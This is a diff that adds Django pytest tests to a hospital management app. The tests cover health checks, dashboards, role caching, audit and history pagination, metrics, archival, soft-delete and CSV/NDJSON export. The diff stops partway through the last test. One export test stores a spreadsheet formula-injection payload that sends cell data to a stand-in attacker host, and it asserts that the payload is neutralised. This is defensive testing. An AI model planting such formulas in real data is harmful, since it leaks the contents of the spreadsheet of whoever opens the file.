@@ -13,6 +13,9 @@ from billing.models import Invoice
 from laboratory.models import LabTest
 from pharmacy.models import Prescription
 from django.contrib.auth.models import User
+from django.db import connection
+from django.db.models import F
+from django.test.utils import CaptureQueriesContext
 
 
 @pytest.fixture
@@ -68,6 +71,17 @@ def receptionist_user(db):
     return user
 
 
+@pytest.fixture
+def shared_cache(settings, tmp_path):
+    """A cache every worker process shares, as Redis is in production."""
+    settings.CACHES = {
+        "default": {
+            "BACKEND": "django.core.cache.backends.filebased.FileBasedCache",
+            "LOCATION": str(tmp_path / "cache"),
+        }
+    }
+
+
 @pytest.fixture
 def patient(db):
     return Patient.objects.create(
@@ -365,6 +379,66 @@ class TestCoreViews:
         assert data["status"] == "healthy"
         assert data["database"] == "connected"
 
+    def test_liveness(self, client, django_assert_num_queries):
+        with django_assert_num_queries(0):
+            response = client.get("/health/live/")
+        assert response.status_code == 200
+        assert response.json()["status"] == "alive"
+
+    def test_readiness_reports_probes(self, client, admin_user):
+        client.force_login(admin_user)
+        response = client.get("/health/ready/")
+        assert response.status_code == 200
+        data = response.json()
+        assert data["status"] == "ready"
+        assert data["checks"]["database"]["status"] == "ok"
+        assert "latency_ms" in data["checks"]["database"]
+        assert "reused_connection" in data["checks"]["database"]
+        assert data["checks"]["cache"]["status"] == "ok"
+        assert data["checks"]["migrations"]["pending"] == []
+
+    def test_readiness_hides_details_from_anonymous_callers(self, client, settings):
+        response = client.get("/health/ready/")
+        assert response.status_code == 200
+        checks = response.json()["checks"]
+        assert set(checks["database"]) == {"status", "latency_ms"}
+        assert set(checks["migrations"]) == {"status"}
+
+        settings.METRICS_TOKEN = "scrape-token"
+        response = client.get(
+            "/health/ready/", HTTP_AUTHORIZATION="Bearer scrape-token"
+        )
+        assert "vendor" in response.json()["checks"]["database"]
+
+    def test_readiness_error_is_generic(self, client, caplog):
+        from unittest import mock
+        from django.db import OperationalError
+
+        failure = OperationalError('could not connect to "db.internal" as user "hms"')
+        with (
+            mock.patch("core.health.connections") as connections,
+            mock.patch("core.health.cache") as cache,
+            mock.patch("core.health.probe_migrations", return_value={"status": "ok"}),
+        ):
+            connections.__getitem__.return_value.cursor.side_effect = failure
+            cache.set.side_effect = ConnectionError("redis:6379")
+            response = client.get("/health/ready/")
+        assert response.status_code == 503
+        checks = response.json()["checks"]
+        assert checks["database"]["error"] == "database_unavailable"
+        assert checks["cache"]["error"] == "cache_unavailable"
+        assert "db.internal" not in response.content.decode()
+        assert "redis:6379" not in response.content.decode()
+        assert "db.internal" in caplog.text
+
+    def test_readiness_fails_on_slow_database(self, client, settings):
+        settings.HEALTH_DB_LATENCY_MS = -1
+        response = client.get("/health/ready/")
+        assert response.status_code == 503
+        data = response.json()
+        assert data["status"] == "unready"
+        assert data["checks"]["database"]["status"] == "slow"
+
     def test_audit_log_requires_admin(self, client, doctor_user):
         client.force_login(doctor_user)
         response = client.get("/audit-log/")
@@ -423,3 +497,866 @@ class TestBillingAPIExtended:
         response = api_client.get("/api/v1/invoices/", {"search": patient.unique_id})
         assert response.status_code == 200
         assert response.data["count"] >= 1
+
+
+@pytest.mark.django_db
+class TestDashboardAggregates:
+    """Grouped dashboard aggregation layer."""
+
+    def test_daily_series_buckets_by_day(self, patient):
+        from datetime import date
+        from django.db.models import Sum
+        from core.dashboard import daily_series, last_n_days
+
+        today = date.today()
+        Invoice.objects.create(patient=patient, total_amount=100, paid=True, issue_date=today, due_date=today)
+        Invoice.objects.create(patient=patient, total_amount=50, paid=True, issue_date=today, due_date=today)
+        Invoice.objects.create(
+            patient=patient,
+            total_amount=30,
+            paid=True,
+            issue_date=today - timedelta(days=2),
+            due_date=today,
+        )
+        days = last_n_days(today, 7)
+        series = daily_series(
+            Invoice.objects.filter(paid=True), "issue_date", days, aggregate=Sum("total_amount")
+        )
+        assert len(series) == 7
+        assert float(series[-1]) == 150.0
+        assert float(series[-3]) == 30.0
+        assert series[0] == 0
+
+    def test_invoice_counters_single_query(self, patient, django_assert_num_queries):
+        from core.dashboard import invoice_counters
+
+        Invoice.objects.create(patient=patient, total_amount=80, paid=True)
+        Invoice.objects.create(patient=patient, total_amount=20, paid=False)
+        with django_assert_num_queries(1):
+            counters = invoice_counters()
+        assert counters["paid_invoices"] == 1
+        assert counters["unpaid_invoices"] == 1
+        assert counters["total_revenue"] == 80
+
+    def test_admin_context_query_count_is_bounded(self, patient, django_assert_max_num_queries):
+        from core.views import _admin_context, _common_context
+
+        Invoice.objects.create(patient=patient, total_amount=80, paid=True)
+        today = timezone.now().date()
+        _common_context(today)
+        _admin_context(today)
+        # Second render is served from the snapshots: 2 reads + 3 live lists.
+        with django_assert_max_num_queries(5):
+            context = _common_context(today)
+            context.update(_admin_context(today))
+            list(context["recent_patients"])
+            list(context["recent_invoices"])
+            list(context["upcoming_appointments"])
+        assert len(context["chart_revenue_data"]) == 7
+        assert context["chart_revenue_data"][-1] == 80.0
+        assert context["total_patients"] == 1
+
+
+@pytest.mark.django_db
+class TestDashboardSnapshots:
+    """Materialized dashboard snapshots."""
+
+    def test_snapshot_is_created_and_reused(self, patient):
+        from core import snapshots
+        from core.models import DashboardSnapshot
+
+        today = timezone.now().date()
+        first = snapshots.get_stats("common", today)
+        assert first["total_patients"] == 1
+        snapshot = DashboardSnapshot.objects.get(key="common")
+        assert snapshot.is_fresh(today, 300)
+        assert snapshots.get_stats("common", today) == first
+
+    def test_model_write_marks_snapshot_stale(self, patient):
+        from core import snapshots
+        from core.models import DashboardSnapshot
+
+        today = timezone.now().date()
+        snapshots.get_stats("common", today)
+        snapshots.get_stats("labtech", today)
+        Patient.objects.create(
+            unique_id="PAT_SNAP",
+            first_name="Snap",
+            last_name="Shot",
+            date_of_birth=today - timedelta(days=365 * 20),
+            gender="F",
+        )
+        assert DashboardSnapshot.objects.get(key="common").is_stale
+        assert not DashboardSnapshot.objects.get(key="labtech").is_stale
+        assert snapshots.get_stats("common", today)["total_patients"] == 2
+
+    def test_refresh_dashboards_command(self, doctor_user):
+        from django.core.management import call_command
+        from core.models import DashboardSnapshot
+
+        call_command("refresh_dashboards")
+        keys = set(DashboardSnapshot.objects.values_list("key", flat=True))
+        assert {"common", "admin", "nurse", "surgeon:all"} <= keys
+        assert f"doctor:{doctor_user.staff_profile.pk}" in keys
+
+
+@pytest.mark.django_db
+@pytest.mark.usefixtures("shared_cache")
+class TestUserRoleFlags:
+    """Cached role flags behind the user_roles context processor."""
+
+    def test_flags_from_group_and_staff_role(self, doctor_user):
+        from django.contrib.auth.models import Group
+        from core.roles import get_role_flags
+
+        doctor_user.groups.add(Group.objects.create(name="Surgeon"))
+        flags = get_role_flags(doctor_user)
+        assert flags["is_hms_doctor"] is True
+        assert flags["is_hms_surgeon"] is True
+        assert flags["is_hms_nurse"] is False
+
+    def test_flags_are_cached(self, doctor_user, django_assert_num_queries):
+        from core.roles import get_role_flags
+
+        get_role_flags(doctor_user)
+        with django_assert_num_queries(0):
+            assert get_role_flags(doctor_user)["is_hms_doctor"] is True
+
+    def test_group_membership_invalidates(self, doctor_user):
+        from django.contrib.auth.models import Group
+        from core.roles import get_role_flags
+
+        assert get_role_flags(doctor_user)["is_hms_pharmacist"] is False
+        group = Group.objects.create(name="Pharmacist")
+        group.user_set.add(doctor_user)
+        assert get_role_flags(doctor_user)["is_hms_pharmacist"] is True
+        group.user_set.clear()
+        assert get_role_flags(doctor_user)["is_hms_pharmacist"] is False
+
+    def test_staff_role_change_invalidates(self, doctor_user):
+        from core.roles import get_role_flags
+
+        assert get_role_flags(doctor_user)["is_hms_doctor"] is True
+        staff = doctor_user.staff_profile
+        staff.role = "NURSE"
+        staff.save()
+        flags = get_role_flags(doctor_user)
+        assert flags["is_hms_nurse"] is True
+        assert flags["is_hms_doctor"] is False
+
+    def test_context_processor(self, rf, doctor_user):
+        from core.context_processors import user_roles
+
+        request = rf.get("/")
+        request.user = doctor_user
+        context = user_roles(request)
+        assert context["is_hms_doctor"] is True
+        assert context["unread_notifications"] == 0
+
+    def test_revocation_reaches_other_workers(self, doctor_user, tmp_path):
+        from unittest import mock
+        from django.core.cache.backends.filebased import FileBasedCache
+        from core.roles import get_role_flags
+
+        # Two worker processes, each with its own client for the shared store.
+        worker_a = FileBasedCache(str(tmp_path / "shared"), {})
+        worker_b = FileBasedCache(str(tmp_path / "shared"), {})
+        with mock.patch("core.roles._role_cache", return_value=worker_b):
+            assert get_role_flags(User.objects.get(pk=doctor_user.pk))["is_hms_doctor"]
+        with mock.patch("core.roles._role_cache", return_value=worker_a):
+            staff = doctor_user.staff_profile
+            staff.role = "NURSE"
+            staff.save()
+        with mock.patch("core.roles._role_cache", return_value=worker_b):
+            flags = get_role_flags(User.objects.get(pk=doctor_user.pk))
+        assert flags["is_hms_doctor"] is False
+
+    def test_process_local_cache_is_not_used(self, doctor_user, settings):
+        from django.core.cache import cache
+        from core.roles import _role_cache, get_role_flags
+
+        # Each worker would hold its own LocMemCache, out of reach of the
+        # invalidation signals in the others, so nothing is cached there.
+        settings.CACHES = {
+            "default": {
+                "BACKEND": "django.core.cache.backends.locmem.LocMemCache",
+                "LOCATION": "worker-a",
+            }
+        }
+        assert _role_cache() is None
+        assert get_role_flags(User.objects.get(pk=doctor_user.pk))["is_hms_doctor"]
+        assert not [key for key in cache._cache if "user_roles" in key]
+        staff = doctor_user.staff_profile
+        staff.role = "NURSE"
+        staff.save()
+        flags = get_role_flags(User.objects.get(pk=doctor_user.pk))
+        assert flags["is_hms_doctor"] is False
+
+    def test_memoized_per_request(self, doctor_user, settings, django_assert_num_queries):
+        from core.roles import get_role_flags
+
+        settings.CACHES = {
+            "default": {"BACKEND": "django.core.cache.backends.locmem.LocMemCache"}
+        }
+        user = User.objects.get(pk=doctor_user.pk)
+        get_role_flags(user)
+        with django_assert_num_queries(0):
+            assert get_role_flags(user)["is_hms_doctor"] is True
+
+
+@pytest.mark.django_db
+class TestAuditStream:
+    """Unified keyset-paginated audit log over every history table."""
+
+    def _make_history(self, doctor_user, patient):
+        staff = doctor_user.staff_profile
+        for i in range(3):
+            patient.first_name = f"Edit{i}"
+            patient.save()
+        Appointment.objects.create(
+            patient=patient,
+            doctor=staff,
+            appointment_date=timezone.now() + timedelta(days=1),
+            reason="Checkup",
+        )
+        Invoice.objects.create(
+            patient=patient,
+            due_date=timezone.now().date() + timedelta(days=30),
+            total_amount=100,
+        )
+
+    def _all_keys(self):
+        from core.audit import history_models
+
+        keys = []
+        for label, model in history_models().items():
+            keys += [(h.history_date, label, h.history_id) for h in model.objects.all()]
+        return sorted(keys, reverse=True)
+
+    def _key(self, entry):
+        return (entry.history_date, entry.model_label, entry.history_id)
+
+    def test_walks_every_table_both_directions(self, doctor_user, patient):
+        from core.audit import audit_page
+
+        self._make_history(doctor_user, patient)
+        expected = self._all_keys()
+        assert len(expected) >= 7
+
+        pages, cursor = [], None
+        while True:
+            page = audit_page(before=cursor, page_size=2)
+            pages.append(page)
+            if not page.older_cursor:
+                break
+            cursor = page.older_cursor
+        walked = [self._key(e) for page in pages for e in page.entries]
+        assert walked == expected
+        assert pages[0].newer_cursor is None
+
+        back = audit_page(after=pages[-1].newer_cursor, page_size=2)
+        assert [self._key(e) for e in back.entries] == [
+            self._key(e) for e in pages[-2].entries
+        ]
+
+    def test_filters_by_model_user_and_date(self, doctor_user, patient):
+        from core.audit import audit_page
+
+        self._make_history(doctor_user, patient)
+        page = audit_page(models=["appointments.appointment"])
+        assert {e.model_label for e in page.entries} == {"appointments.appointment"}
+
+        patient._history_user = doctor_user
+        patient.save()
+        page = audit_page(user_id=doctor_user.pk)
+        assert [e.model_label for e in page.entries] == ["patients.patient"]
+
+        assert audit_page(since=timezone.now() + timedelta(days=1)).entries == []
+
+    def test_page_query_count_is_bounded(self, doctor_user, patient, django_assert_max_num_queries):
+        from core.audit import audit_page, history_models
+
+        self._make_history(doctor_user, patient)
+        first = audit_page(page_size=3)
+        with django_assert_max_num_queries(2 * len(history_models())):
+            audit_page(before=first.older_cursor, page_size=3)
+
+    def test_invalid_cursor_rejected(self):
+        from core.audit import audit_page
+
+        with pytest.raises(ValueError):
+            audit_page(before="not-a-cursor")
+
+
+@pytest.mark.django_db
+class TestRequestMetrics:
+    """Per-endpoint query and cache metrics exposed at /metrics."""
+
+    @pytest.fixture(autouse=True)
+    def _reset_metrics(self):
+        from core import metrics
+
+        metrics.reset()
+        yield
+        metrics.reset()
+
+    def test_api_request_recorded_per_action(self, api_client, admin_user, patient, client):
+        api_client.force_authenticate(user=admin_user)
+        api_client.get("/api/v1/patients/")
+        api_client.get(f"/api/v1/patients/{patient.pk}/")
+
+        client.force_login(admin_user)
+        response = client.get("/metrics")
+        assert response.status_code == 200
+        assert response["Content-Type"].startswith("text/plain")
+        body = response.content.decode()
+        assert 'remedium_http_requests_total{view="patient-list",action="list"} 1' in body
+        assert 'remedium_http_requests_total{view="patient-detail",action="retrieve"} 1' in body
+        assert 'remedium_db_queries_total{view="patient-list",action="list"}' in body
+
+    def test_metrics_requires_superuser_or_token(self, client, doctor_user, settings):
+        settings.METRICS_TOKEN = "scrape-token"
+        assert client.get("/metrics").status_code == 403
+        client.force_login(doctor_user)
+        assert client.get("/metrics").status_code == 403
+        response = client.get("/metrics", HTTP_AUTHORIZATION="Bearer scrape-token")
+        assert response.status_code == 200
+
+    def test_cache_hits_and_misses_counted(self, doctor_user, shared_cache):
+        from core import metrics
+        from core.roles import get_role_flags
+
+        request_metrics = metrics.RequestMetrics()
+        token = metrics.activate(request_metrics)
+        try:
+            get_role_flags(doctor_user)
+            get_role_flags(doctor_user)
+        finally:
+            metrics.deactivate(token)
+        assert request_metrics.cache_misses == 1
+        assert request_metrics.cache_hits == 1
+
+
+@pytest.mark.django_db
+class TestSlowQueryLog:
+    """Opt-in slow-query capture with redacted parameters and plans."""
+
+    def test_disabled_by_default(self, api_client, admin_user):
+        from core.models import SlowQuery
+
+        api_client.force_authenticate(user=admin_user)
+        api_client.get("/api/v1/patients/")
+        assert not SlowQuery.objects.exists()
+
+    def test_captures_plan_and_redacts_params(self, api_client, admin_user, patient, settings):
+        from core.models import SlowQuery
+
+        settings.SLOW_QUERY_THRESHOLD_MS = 0.0001
+        api_client.force_authenticate(user=admin_user)
+        api_client.get("/api/v1/patients/", {"search": "Patient"})
+
+        entries = list(SlowQuery.objects.all())
+        assert entries
+        assert all(entry.view == "patient-list" for entry in entries)
+        assert any(entry.plan for entry in entries)
+        assert all("Patient" not in str(entry.params) for entry in entries)
+        assert any(entry.origin.startswith(str(settings.BASE_DIR)) for entry in entries)
+
+    def test_redaction_helpers(self):
+        from datetime import date
+        from core.slow_queries import redact_params, redact_plan
+
+        assert redact_params([7, True, None, "Jane", date(1990, 1, 1)]) == [
+            7,
+            True,
+            None,
+            "<redacted str>",
+            "<redacted date>",
+        ]
+        plan = "Filter: ((first_name)::text ~~* '%jane%'::text)"
+        assert "jane" not in redact_plan(plan)
+
+
+@pytest.mark.django_db
+class TestSeedDemoScale:
+    """Bulk load-test data generation via seed_demo --scale."""
+
+    def _run(self, **options):
+        from io import StringIO
+        from django.core.management import call_command
+
+        out = StringIO()
+        call_command("seed_demo", stdout=out, **options)
+        return out.getvalue()
+
+    def test_generates_consistent_volumes(self):
+        from billing.models import InvoiceCounter
+        from care_monitoring.models import PatientCare
+
+        output = self._run(scale=12, seed=3, batch_size=5)
+        patients = Patient.objects.filter(unique_id__startswith="LOAD-")
+        assert patients.count() == 12
+        assert Appointment.objects.filter(patient__in=patients).count() == 36
+        assert PatientCare.objects.filter(patient__in=patients).count() == 48
+        invoices = Invoice.objects.filter(patient__in=patients)
+        assert invoices.count() == 12
+        assert len(set(invoices.values_list("invoice_number", flat=True))) == 12
+        year = timezone.now().year
+        assert InvoiceCounter.objects.get(year=year).last_seq == 12
+        assert Patient.history.filter(unique_id__startswith="LOAD-").count() == 12
+        assert "rows/s" in output
+
+    def test_same_seed_same_data(self):
+        self._run(scale=5, seed=9, skip_history=True)
+        self._run(scale=5, seed=9, skip_history=True)
+        rows = list(
+            Patient.objects.filter(unique_id__startswith="LOAD-")
+            .order_by("unique_id")
+            .values_list("first_name", "last_name", "date_of_birth")
+        )
+        assert rows[:5] == rows[5:]
+        assert not Patient.history.filter(unique_id__startswith="LOAD-").exists()
+
+
+@pytest.mark.django_db
+class TestBenchmarkCommand:
+    """Endpoint benchmark runner and baseline comparison."""
+
+    def test_writes_results_and_compares(self, tmp_path, patient):
+        import json
+        from io import StringIO
+        from django.core.management import call_command
+
+        output = tmp_path / "bench.json"
+        call_command(
+            "benchmark",
+            iterations=2,
+            warmup=0,
+            only=["invoice_api", "appointment_api"],
+            output=str(output),
+            allow_write=True,
+            stdout=StringIO(),
+        )
+        data = json.loads(output.read_text())
+        assert set(data["results"]) == {"invoice_api[list]", "appointment_api[upcoming]"}
+        result = data["results"]["invoice_api[list]"]
+        assert result["status"] == [200]
+        assert result["queries"] > 0
+        assert result["p50_ms"] <= result["p99_ms"]
+        assert data["meta"]["patients"] == 1
+
+        out = StringIO()
+        call_command(
+            "benchmark",
+            iterations=1,
+            warmup=0,
+            only=["invoice_api"],
+            compare=str(output),
+            threshold=10000,
+            allow_write=True,
+            stdout=out,
+        )
+        assert "invoice_api[list]" in out.getvalue()
+
+    def test_leaves_no_users_or_sessions(self, patient):
+        from io import StringIO
+        from django.contrib.sessions.models import Session
+        from django.core.management import call_command
+
+        call_command(
+            "benchmark",
+            iterations=1,
+            warmup=0,
+            only=["homepage[doctor]", "invoice_api"],
+            allow_write=True,
+            stdout=StringIO(),
+        )
+        assert not User.objects.filter(username__startswith="bench_").exists()
+        assert not Staff.all_objects.filter(staff_id__startswith="BENCH_").exists()
+        assert not Session.objects.exists()
+
+    def test_refuses_without_debug(self, settings):
+        from django.core.management import call_command
+        from django.core.management.base import CommandError
+
+        settings.DEBUG = False
+        with pytest.raises(CommandError, match="--allow-write"):
+            call_command("benchmark", iterations=1)
+
+    def test_compare_flags_query_increase(self):
+        from core.benchmarks import compare
+
+        baseline = {"x": {"p95_ms": 10.0, "queries": 3}}
+        _, regressions = compare(baseline, {"x": {"p95_ms": 10.0, "queries": 4}})
+        assert regressions == ["x"]
+        _, regressions = compare(baseline, {"x": {"p95_ms": 11.0, "queries": 3}})
+        assert regressions == []
+
+    def test_percentile(self):
+        from core.benchmarks import percentile
+
+        samples = list(range(1, 101))
+        assert percentile(samples, 50) == 50
+        assert percentile(samples, 99) == 99
+        assert percentile([5], 95) == 5
+
+
+@pytest.mark.django_db
+class TestArchiveDeleted:
+    """Batched archival of long-soft-deleted rows and restore."""
+
+    def _soft_delete(self, obj, days_ago):
+        # Flag the row alone (no cascade), as if deleted ``days_ago`` days ago.
+        type(obj).all_objects.filter(pk=obj.pk).update(
+            is_deleted=True, deleted_at=timezone.now() - timedelta(days=days_ago)
+        )
+
+    def _appointment(self, patient, doctor_user):
+        return Appointment.objects.create(
+            patient=patient,
+            doctor=doctor_user.staff_profile,
+            appointment_date=timezone.now() + timedelta(days=1),
+            reason="Follow-up",
+        )
+
+    def test_archives_expired_rows_with_cascades(self, settings, patient, doctor_user):
+        from core.archive import archive_deleted
+        from core.models import ArchivedRecord
+
+        settings.ARCHIVE_RETENTION_DAYS = {"default": 30}
+        appointment = self._appointment(patient, doctor_user)
+        self._soft_delete(appointment, 40)
+        self._soft_delete(patient, 40)
+        recent = Patient.objects.create(
+            unique_id="PAT_RECENT",
+            first_name="Recent",
+            last_name="Patient",
+            date_of_birth=timezone.now().date() - timedelta(days=365 * 20),
+            gender="F",
+        )
+        self._soft_delete(recent, 5)
+
+        manifest = archive_deleted(batch_size=1)
+        assert manifest.status == "COMPLETED"
+        assert manifest.counts["patients.patient"] == 1
+        assert manifest.counts["appointments.appointment"] == 1
+        assert not Patient.all_objects.filter(pk=patient.pk).exists()
+        assert not Appointment.all_objects.filter(pk=appointment.pk).exists()
+        assert Patient.all_objects.filter(pk=recent.pk).exists()
+        labels = list(manifest.records.values_list("model_label", flat=True))
+        assert labels.index("appointments.appointment") < labels.index("patients.patient")
+        assert ArchivedRecord.objects.count() == 2
+
+    def test_skips_rows_with_live_dependents(self, settings, patient, doctor_user):
+        from core.archive import archive_deleted
+
+        settings.ARCHIVE_RETENTION_DAYS = {"default": 30}
+        self._appointment(patient, doctor_user)
+        self._soft_delete(patient, 40)
+
+        manifest = archive_deleted()
+        assert manifest.skipped == {"patients.patient": 1}
+        assert Patient.all_objects.filter(pk=patient.pk).exists()
+        assert not manifest.counts.get("patients.patient")
+
+    def test_dry_run_and_restore_round_trip(self, settings, patient, doctor_user):
+        from io import StringIO
+        from django.core.management import call_command
+        from core.models import ArchiveManifest
+
+        settings.ARCHIVE_RETENTION_DAYS = {"default": 30}
+        appointment = self._appointment(patient, doctor_user)
+        self._soft_delete(appointment, 40)
+        self._soft_delete(patient, 40)
+
+        out = StringIO()
+        call_command("archive_deleted", dry_run=True, stdout=out)
+        assert "2 rows eligible" in out.getvalue()
+        assert not ArchiveManifest.objects.exists()
+
+        call_command("archive_deleted", stdout=StringIO())
+        manifest = ArchiveManifest.objects.get()
+        assert not Patient.all_objects.filter(pk=patient.pk).exists()
+
+        call_command("restore_archive", manifest=manifest.pk, stdout=StringIO())
+        restored = Patient.all_objects.get(pk=patient.pk)
+        assert restored.is_deleted
+        assert restored.first_name == "API"
+        assert Appointment.all_objects.get(pk=appointment.pk).patient_id == patient.pk
+        assert not manifest.records.filter(restored_at__isnull=True).exists()
+
+
+@pytest.mark.django_db
+class TestCascadeSoftDelete:
+    """Cascading soft-delete and restore of a patient's records."""
+
+    def _records(self, patient, doctor_user):
+        from billing.models import Payment
+
+        appointment = Appointment.objects.create(
+            patient=patient,
+            doctor=doctor_user.staff_profile,
+            appointment_date=timezone.now() + timedelta(days=1),
+        )
+        invoice = Invoice.objects.create(
+            patient=patient,
+            due_date=timezone.now().date() + timedelta(days=30),
+        )
+        payment = Payment.objects.create(
+            invoice=invoice, amount=10, payment_method="CASH"
+        )
+        return appointment, invoice, payment
+
+    def test_delete_cascades_in_bulk(self, patient, doctor_user):
+        from billing.models import Payment
+
+        appointment, invoice, payment = self._records(patient, doctor_user)
+        history_before = Appointment.history.filter(id=appointment.pk).count()
+
+        patient.delete()
+
+        assert patient.is_deleted
+        for model, pk in [
+            (Appointment, appointment.pk),
+            (Invoice, invoice.pk),
+            (Payment, payment.pk),
+        ]:
+            row = model.all_objects.get(pk=pk)
+            assert row.is_deleted
+            assert row.deleted_at == patient.deleted_at
+        latest = Appointment.history.filter(id=appointment.pk).first()
+        assert Appointment.history.filter(id=appointment.pk).count() == history_before + 1
+        assert latest.is_deleted
+        assert latest.history_change_reason == "Cascade soft-delete"
+
+    def test_restore_skips_rows_deleted_separately(self, patient, doctor_user):
+        from core import cascade
+
+        appointment, invoice, _ = self._records(patient, doctor_user)
+        Appointment.all_objects.filter(pk=appointment.pk).update(
+            is_deleted=True, deleted_at=timezone.now() - timedelta(days=3)
+        )
+        patient.delete()
+        counts = cascade.restore([Patient.all_objects.get(pk=patient.pk)])
+
+        assert counts["patients.patient"] == 1
+        assert "appointments.appointment" not in counts
+        assert Invoice.objects.filter(pk=invoice.pk).exists()
+        assert Patient.objects.filter(pk=patient.pk).exists()
+        assert Appointment.all_objects.get(pk=appointment.pk).is_deleted
+
+    def test_relations_follow_cascade_only(self):
+        from core.cascade import cascade_relations
+
+        children = {field.model._meta.label_lower for field in cascade_relations(Patient)}
+        assert {"appointments.appointment", "billing.invoice", "pharmacy.prescription"} <= children
+        assert "notifications.notification" not in children
+
+
+@pytest.mark.django_db
+class TestObjectHistory:
+    """Keyset-paginated per-object history with in-memory diffs."""
+
+    def _edit(self, patient, count):
+        for i in range(count):
+            patient.first_name = f"Edit{i}"
+            patient.save()
+
+    def test_walks_pages_with_diffs(self, patient):
+        from core.history import history_page
+
+        self._edit(patient, 6)
+        expected = list(patient.history.order_by("-history_date", "-history_id"))
+        assert len(expected) == 7
+
+        pages, cursor = [], None
+        while True:
+            page = history_page(patient, before=cursor, page_size=3)
+            pages.append(page)
+            if not page.older_cursor:
+                break
+            cursor = page.older_cursor
+        entries = [e for page in pages for e in page.entries]
+        assert [e["entry"].history_id for e in entries] == [h.history_id for h in expected]
+        assert pages[0].newer_cursor is None
+
+        for entry, previous in zip(entries, expected[1:]):
+            changes = entry["changes"]
+            assert [c.field for c in changes] == ["first_name"]
+            assert changes[0].old == previous.first_name
+            assert changes[0].new == entry["entry"].first_name
+        assert entries[-1]["changes"] is None
+
+        back = history_page(patient, after=pages[-1].newer_cursor, page_size=3)
+        assert [e["entry"].history_id for e in back.entries] == [
+            e["entry"].history_id for e in pages[-2].entries
+        ]
+        assert back.entries[-1]["changes"] is not None
+
+    def test_page_is_one_query(self, patient, django_assert_num_queries):
+        from core.history import history_page
+
+        self._edit(patient, 5)
+        first = history_page(patient, page_size=2)
+        with django_assert_num_queries(1):
+            page = history_page(patient, before=first.older_cursor, page_size=2)
+            assert all(entry["changes"] for entry in page.entries)
+
+    def test_works_for_other_models(self, doctor_user):
+        from core.history import history_page
+
+        staff = doctor_user.staff_profile
+        staff.last_name = "Renamed"
+        staff.save()
+        page = history_page(staff)
+        assert [c.field for c in page.entries[0]["changes"]] == ["last_name"]
+
+    def test_invalid_cursor_rejected(self, patient):
+        from core.history import history_page
+
+        with pytest.raises(ValueError):
+            history_page(patient, before="not-a-cursor")
+
+
+@pytest.mark.django_db
+class TestHybridPagination:
+    """Opt-in keyset pagination alongside the default page-number pages."""
+
+    def _patients(self, count):
+        admitted = timezone.now() - timedelta(days=1)
+        for i in range(count):
+            Patient.objects.create(
+                unique_id=f"KEY{i:03d}",
+                first_name="Key",
+                last_name=f"Set{i}",
+                date_of_birth=timezone.now().date() - timedelta(days=365 * 40),
+                gender="F",
+                # Ties on admission_date and NULLs, which sort last.
+                admission_date=None if i % 3 == 0 else admitted - timedelta(hours=i % 2),
+            )
+
+    def _walk(self, api_client, url):
+        ids, pages = [], []
+        while url:
+            response = api_client.get(url)
+            assert response.status_code == status.HTTP_200_OK
+            assert "count" not in response.data
+            pages.append(response.data)
+            ids += [row["id"] for row in response.data["results"]]
+            url = response.data["next"]
+        return ids, pages
+
+    def test_page_numbers_remain_the_default(self, api_client, doctor_user):
+        self._patients(3)
+        api_client.force_authenticate(user=doctor_user)
+        response = api_client.get("/api/v1/patients/")
+        assert response.data["count"] == 3
+        assert {"next", "previous", "results"} <= set(response.data)
+
+    def test_cursor_walks_every_row_once_in_order(self, api_client, doctor_user, monkeypatch):
+        monkeypatch.setattr("core.pagination.HybridPagination.page_size", 4)
+        self._patients(11)
+        api_client.force_authenticate(user=doctor_user)
+        ids, pages = self._walk(api_client, "/api/v1/patients/?cursor=")
+
+        expected = list(
+            Patient.objects.order_by(
+                F("admission_date").desc(nulls_last=True), "-id"
+            ).values_list("pk", flat=True)
+        )
+        assert ids == expected
+        assert len(pages) == 3 and pages[0]["previous"] is None
+
+        back = api_client.get(pages[-1]["previous"])
+        assert [row["id"] for row in back.data["results"]] == [
+            row["id"] for row in pages[1]["results"]
+        ]
+
+    def test_cursor_page_skips_count(self, api_client, doctor_user):
+        self._patients(3)
+        api_client.force_authenticate(user=doctor_user)
+        first = api_client.get("/api/v1/appointments/?cursor=")
+        assert first.data["results"] == [] and first.data["next"] is None
+        with CaptureQueriesContext(connection) as queries:
+            api_client.get("/api/v1/patients/?cursor=")
+        assert not any("COUNT(" in q["sql"].upper() for q in queries.captured_queries)
+
+    def test_invalid_cursor_and_ordering_rejected(self, api_client, doctor_user):
+        api_client.force_authenticate(user=doctor_user)
+        assert api_client.get("/api/v1/patients/?cursor=bogus").status_code == 400
+        response = api_client.get("/api/v1/patients/?cursor=&ordering=last_name")
+        assert response.status_code == 400
+
+
+@pytest.mark.django_db
+class TestStreamingExport:
+    """Unpaginated CSV/NDJSON exports that reuse the list filters."""
+
+    def _content(self, response):
+        assert response.streaming
+        return b"".join(response.streaming_content).decode()
+
+    def _patients(self, count):
+        for i in range(count):
+            Patient.objects.create(
+                unique_id=f"EXP{i:03d}",
+                first_name="Export",
+                last_name=f"Row{i}",
+                date_of_birth=timezone.now().date() - timedelta(days=365 * 30),
+                gender="M",
+                medical_history="Line one\nline two, with a comma",
+            )
+
+    def test_csv_streams_every_row_in_chunks(self, api_client, doctor_user, monkeypatch):
+        import csv
+        import io
+
+        monkeypatch.setattr("patients.api_views.PatientViewSet.export_chunk_size", 2)
+        self._patients(5)
+        api_client.force_authenticate(user=doctor_user)
+        response = api_client.get("/api/v1/patients/export/", {"format": "csv"})
+        assert response.status_code == 200
+        assert response["Content-Type"].startswith("text/csv")
+        assert "attachment;" in response["Content-Disposition"]
+
+        rows = list(csv.DictReader(io.StringIO(self._content(response))))
+        assert sorted(row["unique_id"] for row in rows) == [f"EXP{i:03d}" for i in range(5)]
+        assert rows[0]["medical_history"] == "Line one\nline two, with a comma"
+        assert rows[0]["admission_date"] == ""
+
+    def test_csv_neutralizes_formulas(self, api_client, doctor_user):
+        import csv
+        import io
+
+        self._patients(1)
+        Patient.objects.filter(unique_id="EXP000").update(
+            first_name='=HYPERLINK("http://evil.example/?x="&A1,"Open")',
+            last_name="-2+3",
+            address="@SUM(A1)",
+        )
+        api_client.force_authenticate(user=doctor_user)
+        response = api_client.get(
+            "/api/v1/patients/export/",
+            {"format": "csv", "fields": "unique_id,first_name,last_name,address"},
+        )
+        row = next(csv.DictReader(io.StringIO(self._content(response))))
+        assert row["first_name"] == '\'=HYPERLINK("http://evil.example/?x="&A1,"Open")'
+        assert row["last_name"] == "'-2+3"
+        assert row["address"] == "'@SUM(A1)"
+        assert row["unique_id"] == "EXP000"
+
+    def test_ndjson_applies_list_filters_and_fields(self, api_client, doctor_user):
